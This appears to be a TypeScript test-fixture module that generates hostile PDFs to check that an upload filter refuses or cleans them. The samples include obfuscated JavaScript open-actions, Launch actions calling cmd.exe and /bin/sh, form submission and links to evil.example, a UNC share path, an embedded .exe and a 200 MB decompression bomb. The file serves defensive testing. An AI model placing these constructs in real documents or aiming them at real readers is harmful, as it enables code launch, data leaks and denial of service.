import { deflateSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { zip, type HostileFile } from './hostile-files'

/** A PDF of so many pages, changed before it is saved. */
export async function pdf(
  change: (document: PDFDocument) => unknown = () => undefined,
  pages = 1,
): Promise<Buffer> {
  const document = await PDFDocument.create()
  for (let nth = 0; nth < pages; nth += 1) document.addPage([300, 300])
  await change(document)
  return Buffer.from(await document.save({ addDefaultPage: false }))
}

/** A PDF in plain text, objects numbered from 1; the first is the catalog, the second the page tree. */
export function plainPdf(catalog: string, ...more: string[]): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>',
    ...more,
  ]
  let body = '%PDF-1.7\n'
  const offsets = objects.map((object, nth) => {
    const offset = body.length
    body += `${nth + 1} 0 obj\n${object}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`
  const trailer = `trailer << /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`
  return Buffer.from(body + table + trailer, 'latin1')
}

const stream = (dict: string, content: string): string =>
  `<< ${dict} /Length ${content.length} >>\nstream\n${content}\nendstream`

/** A list of objects that unfolds to hundreds of megabytes. */
const bomb = (): string => {
  const packed = deflateSync(Buffer.alloc(200_000_000, ' ')).toString('latin1')
  return stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed)
}

const onPage = (document: PDFDocument, key: string, value: object): void =>
  document.getPage(0).node.set(PDFName.of(key), document.context.obj(value as never))
const annotation = (document: PDFDocument, values: object): void =>
  onPage(document, 'Annots', [{ Type: 'Annot', Rect: [0, 0, 9, 9], ...values }])
const atOpening = (document: PDFDocument, action: object): void =>
  document.catalog.set(PDFName.of('OpenAction'), document.context.obj(action as never))
const say = (words: string): PDFString => PDFString.of(words)

const revised = (): Buffer => {
  const first = plainPdf('', stream('', 'CANARY-EARLIER-REVISION'))
  return Buffer.concat([
    first,
    Buffer.from('4 0 obj\n<< /Now 1 >>\nendobj\ntrailer << /Size 5 /Root 1 0 R >>\n%%EOF\n'),
  ])
}

const acting: HostileFile[] = [
  {
    is: 'runs JavaScript when opened',
    make: () => pdf(it => atOpening(it, { S: 'JavaScript', JS: say('app.alert(1)') })),
  },
  { is: 'names a JavaScript', make: () => pdf(it => it.addJavaScript('main', 'app.alert(1)')) },
  {
    is: 'hides the word JavaScript',
    make: () => plainPdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'),
  },
  {
    is: 'keeps its action elsewhere',
    make: () => plainPdf('/OpenAction 4 0 R', '<< /S 5 0 R /F (cmd.exe) >>', '/Launch'),
  },
  {
    is: 'hides JavaScript where nothing reaches',
    make: () => plainPdf('', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
  },
  {
    is: 'launches a program',
    make: () => pdf(it => annotation(it, { Subtype: 'Link', A: { S: 'Launch', F: say('cmd.exe') } })),
  },
  {
    is: 'launches a program when opened',
    make: () => pdf(it => atOpening(it, { S: 'Launch', F: say('/bin/sh') })),
  },
  {
    is: 'acts when a page is shown',
    make: () => pdf(it => onPage(it, 'AA', { O: { S: 'Named', N: 'Print' } })),
  },
  { is: 'prints when opened', make: () => pdf(it => atOpening(it, { S: 'Named', N: 'Print' })) },
  {
    is: 'opens an address when opened',
    make: () => pdf(it => atOpening(it, { S: 'URI', URI: say('https://evil.example') })),
  },
  {
    is: 'sends a form away',
    make: () =>
      pdf(it => annotation(it, { Subtype: 'Link', A: { S: 'SubmitForm', F: say('https://evil.example') } })),
  },
  {
    is: 'imports data',
    make: () => pdf(it => annotation(it, { Subtype: 'Link', A: { S: 'ImportData', F: say('x.fdf') } })),
  },
  {
    is: 'opens a file on a share',
    make: () => pdf(it => annotation(it, { Subtype: 'Link', A: { S: 'GoToR', F: say('\\\\evil\\x') } })),
  },
  {
    is: 'chains an action behind a harmless one',
    make: () => pdf(it => annotation(it, { Subtype: 'Link', A: { S: 'GoTo', Next: [{ S: 'Launch' }] } })),
  },
  {
    is: 'is an XFA form',
    make: () => plainPdf('/AcroForm << /Fields [] /XFA 4 0 R >>', stream('', '<xdp/>')),
  },
].map(file => ({ ...file, refused: '含有脚本' }))

const carrying: HostileFile[] = [
  {
    is: 'carries another file',
    make: () => pdf(it => it.attach(Buffer.from('MZ'), 'a.exe', { mimeType: 'application/x-msdownload' })),
  },
  { is: 'pins a file to a page', make: () => pdf(it => annotation(it, { Subtype: 'FileAttachment' })) },
  { is: 'plays rich media', make: () => pdf(it => annotation(it, { Subtype: 'RichMedia' })) },
  { is: 'plays a film', make: () => pdf(it => annotation(it, { Subtype: 'Movie' })) },
].map(file => ({ ...file, refused: '夹带' }))

const impossible: HostileFile[] = [
  {
    is: 'is protected by a password',
    make: () => pdf(it => it.encrypt({ userPassword: 'a', ownerPassword: 'b' })),
    refused: '密码',
  },
  {
    is: 'may be opened but not printed',
    make: () =>
      pdf(it => it.encrypt({ userPassword: '', ownerPassword: 'b', permissions: { printing: false } })),
    refused: '密码',
  },
  { is: 'has 51 pages', make: () => pdf(undefined, 51), refused: '超过 50 页' },
  { is: 'has no page', make: () => pdf(undefined, 0), refused: '没有页面' },
  { is: 'is only a header', make: () => Buffer.from('%PDF-1.7\n'), refused: '损坏' },
  { is: 'is cut in half', make: async () => (await pdf(undefined, 9)).subarray(0, 300), refused: '损坏' },
  {
    is: 'is noise',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(100_000, '\x8a<[(/')]),
    refused: '损坏',
  },
  { is: 'nests without end', make: () => plainPdf('', '['.repeat(200_000)), refused: '损坏' },
  {
    is: 'has pages that contain themselves',
    make: () => Buffer.from(plainPdf('').toString('latin1').replace('[3 0 R]', '[2 0 R]'), 'latin1'),
    refused: '损坏',
  },
  { is: 'unfolds to gigabytes', make: () => plainPdf('', bomb()), refused: '过于复杂' },
]

const cleaned: HostileFile[] = [
  {
    is: 'says who wrote it',
    make: () =>
      pdf(it => {
        it.setAuthor('CANARY-AUTHOR')
        it.setProducer('CANARY-PRODUCER')
        it.catalog.set(
          PDFName.of('Metadata'),
          it.context.register(it.context.stream('<x:xmpmeta>CANARY</x:xmpmeta>')),
        )
      }),
    gone: ['CANARY', 'xmpmeta', '/Info', '/Author'],
  },
  {
    is: 'has a ZIP behind it',
    make: async () => Buffer.concat([await pdf(), zip({ 'CANARY.exe': 'MZ' })]),
    gone: ['PK\x03\x04', 'PK\x05\x06', 'CANARY'],
  },
  {
    is: 'has a script behind it',
    make: async () => Buffer.concat([await pdf(), Buffer.from('<script>CANARY</script>')]),
    gone: ['<script', 'CANARY'],
  },
  { is: 'remembers an earlier version', make: revised, gone: ['CANARY'] },
  {
    is: 'hides bytes where nothing reaches',
    make: () => plainPdf('', stream('', 'PK\x03\x04CANARY')),
    gone: ['CANARY'],
  },
  {
    is: 'links to the outside',
    make: () =>
      pdf(it => annotation(it, { Subtype: 'Link', A: { S: 'URI', URI: say('https://CANARY.example') } })),
    gone: ['CANARY'],
  },
  {
    is: 'opens at a page',
    make: () => pdf(it => atOpening(it, [it.getPage(0).ref, 'Fit'])),
    gone: ['OpenAction'],
  },
]

export const hostilePdfs: HostileFile[] = [...acting, ...carrying, ...impossible, ...cleaned].map(file => ({
  ...file,
  is: `a PDF that ${file.is}`,
  name: 'paper.pdf',
  mime: 'application/pdf',
}))
